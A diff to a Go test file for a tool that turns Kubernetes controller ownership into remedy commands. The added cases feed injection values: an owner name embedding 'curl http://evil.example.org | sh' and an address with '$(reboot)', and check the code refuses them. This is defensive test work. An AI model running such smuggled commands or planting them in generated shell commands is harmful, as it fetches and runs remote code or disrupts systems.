@@ -107,6 +107,15 @@ func TestWhatAControllerWritesIsChangedWhereItIsAskedFor(t *testing.T) {
 	}})
 	expect.Equal(t, "Change StatefulSet db, by which the controller writes it.", remedy, "the remedy")
 	expect.Equal(t, []string{"kubectl edit statefulset db -n shop"}, commands, "the commands")
+	for name, owner := range map[string]metav1.OwnerReference{
+		"a command for a name": {Kind: "Pod", Name: "web; curl http://evil.example.org | sh #", Controller: new(true)},
+		"a kind of others":     {Kind: "Ghost", Name: "web", Controller: new(true)},
+	} {
+		if w := writerOf(&metav1.ObjectMeta{Namespace: "shop", OwnerReferences: []metav1.OwnerReference{owner}}); w != nil {
+			t.Errorf("%s: the writer is %+v, want none", name, w)
+		}
+	}
+	expect.Equal(t, "ADDRESS", addressIn("it has fe80::1%$(reboot) there", "ADDRESS"), "an address with a zone")
 	_, commands = remedyOf([]Link{{
 		Object: ask.New(KindNetwork, "shop", "web"), Reason: cloudteamv1.ReasonAddressInUse,
 		Message: "create router interface: the gateway's address 10.0.0.7 is that of a port.",
